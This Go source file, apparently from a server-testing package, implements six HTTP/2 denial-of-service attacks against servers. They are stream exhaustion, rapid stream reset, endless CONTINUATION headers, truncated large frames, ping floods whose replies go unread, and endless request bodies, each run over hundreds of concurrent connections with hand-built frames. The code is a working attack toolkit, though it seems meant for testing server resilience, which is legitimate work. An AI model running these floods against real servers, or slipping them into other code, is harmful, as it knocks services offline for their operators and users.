package clienttest

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

const (
	http2Clients = 300
	// http2Streams is the number of streams that net/http accepts on a connection by default.
	http2Streams = 250
	// http2Fields is the number of header fields of a stream. Their size as HTTP/2 counts it is
	// below the smallest bound of the servers.
	http2Fields = 230
	// resetStreams is the number of streams that a client opens and resets on one connection.
	resetStreams = 2000
	// bodyClients is the number of connections whose streams send bodies without end.
	bodyClients = 100
	// bodyStreams and streamBody fill the flow-control window of a connection.
	bodyStreams, streamBody = 64, 64 << 10
	// pingBytes is what a client sends in pings, pingsAtOnce of them in one piece.
	pingBytes, pingsAtOnce = 4 << 20, 1000
	// frameClients is the number of connections with a frame of largeFrame bytes, the largest
	// that net/http reads by default.
	frameClients, largeFrame = 200, 1 << 20
)

const http2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// Types and flags of HTTP/2 frames.
const (
	frameData, frameHeaders, frameReset, frameSettings, framePing, frameContinuation = 0, 1, 3, 4, 6, 9
	flagAck, flagEndHeaders                                                          = 1, 4
)

// HTTP2Attacks are ways to misbehave over HTTP/2.
func HTTP2Attacks() []Attack {
	return []Attack{
		{Name: "HTTP2 streams whose bodies do not come", Clients: http2Clients, send: http2(func(c *http2Conn, t Target) {
			block := headerBlock(t, http2Fields)
			for id := uint32(1); id < 2*http2Streams && c.frame(frameHeaders, flagEndHeaders, id, block); id += 2 {
			}
		})},
		{Name: "HTTP2 streams that are reset at once", Clients: http2Clients, send: http2(func(c *http2Conn, t Target) {
			block := headerBlock(t, http2Fields)
			for id := uint32(1); id < 2*resetStreams; id += 2 {
				if !c.frame(frameHeaders, flagEndHeaders, id, block) || !c.frame(frameReset, 0, id, []byte{0, 0, 0, 8}) {
					return
				}
			}
		})},
		{Name: "HTTP2 heads without end", Clients: http2Clients, send: http2(func(c *http2Conn, t Target) {
			block := headerBlock(t, http2Fields)
			ok := c.frame(frameHeaders, 0, 1, block)
			for sent := 0; ok && sent < endlessBytes; sent += len(block) {
				ok = c.frame(frameContinuation, 0, 1, block)
			}
		})},
		{Name: "HTTP2 frames that stop before their end", Clients: frameClients, send: http2(func(c *http2Conn, t Target) {
			c.frame(frameHeaders, flagEndHeaders, 1, headerBlock(t, 0))
			c.write(append(frameHead(largeFrame, frameData, 0, 1), make([]byte, largeFrame-1)...))
		})},
		{Name: "HTTP2 pings whose answers are not read", Clients: http2Clients, send: func(nc net.Conn, _ Target, _ <-chan struct{}) {
			c := &http2Conn{Conn: nc}
			c.write([]byte(http2Preface))
			c.frame(frameSettings, 0, 0, nil)
			repeat(nc, bytes.Repeat(append(frameHead(8, framePing, 0, 0), make([]byte, 8)...), pingsAtOnce), pingBytes)
		}},
		{Name: "HTTP2 bodies without end", Clients: bodyClients, send: http2(func(c *http2Conn, t Target) {
			block, data := headerBlock(t, 0), make([]byte, chunkBytes)
			for id := uint32(1); id < 2*bodyStreams; id += 2 {
				ok := c.frame(frameHeaders, flagEndHeaders, id, block)
				for sent := 0; ok && sent < streamBody; sent += len(data) {
					ok = c.frame(frameData, 0, id, data)
				}
			}
		})},
	}
}

// http2 returns the send function of an attack over HTTP/2.
func http2(send func(c *http2Conn, t Target)) func(net.Conn, Target, <-chan struct{}) {
	return func(nc net.Conn, t Target, _ <-chan struct{}) {
		c := &http2Conn{Conn: nc}
		c.write([]byte(http2Preface))
		c.frame(frameSettings, 0, 0, nil)
		go c.respond()
		send(c, t)
	}
}

// http2Conn is the client's side of an HTTP/2 connection.
type http2Conn struct {
	net.Conn
	mu sync.Mutex
}

// frame sends a frame and reports whether the server has accepted it.
func (c *http2Conn) frame(kind, flags byte, stream uint32, payload []byte) bool {
	return c.write(append(frameHead(len(payload), kind, flags, stream), payload...))
}

func (c *http2Conn) write(b []byte) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return write(c.Conn, b)
}

// respond acknowledges settings and pings until the connection is closed. A server closes
// connections that do not.
func (c *http2Conn) respond() {
	for head := make([]byte, 9); ; {
		_ = c.SetReadDeadline(time.Time{}) // Fails only on a closed connection.
		if _, err := io.ReadFull(c, head); err != nil {
			return
		}
		payload := make([]byte, int(head[0])<<16|int(head[1])<<8|int(head[2]))
		if _, err := io.ReadFull(c, payload); err != nil {
			return
		}
		switch kind, isAck := head[3], head[4]&flagAck != 0; {
		case isAck:
		case kind == frameSettings:
			c.frame(frameSettings, flagAck, 0, nil)
		case kind == framePing:
			c.frame(framePing, flagAck, 0, payload)
		}
	}
}

func frameHead(length int, kind, flags byte, stream uint32) []byte {
	return binary.BigEndian.AppendUint32([]byte{byte(length >> 16), byte(length >> 8), byte(length), kind, flags}, stream)
}

// headerBlock returns the compressed header fields of a request with a number of short fields
// besides its own. All are literals that no table keeps.
func headerBlock(t Target, fields int) []byte {
	const schemeHTTP, schemeHTTPS = 0x86, 0x87
	scheme := byte(schemeHTTP)
	if t.TLS != nil {
		scheme = schemeHTTPS
	}
	b := []byte{0x83, scheme} // POST and the scheme are entries of the static table.
	text := func(s string) { b = append(append(b, byte(len(s))), s...) }
	b = append(b, 0x04) // The name :path is an entry of the static table.
	text(t.Path)
	b = append(b, 0x01) // So is :authority.
	text(t.Host)
	field := func(name, value string) { b = append(b, 0); text(name); text(value) }
	field("content-type", "application/proto")
	for i := range fields {
		field(fmt.Sprintf("f%x", i), "")
	}
	return b
}
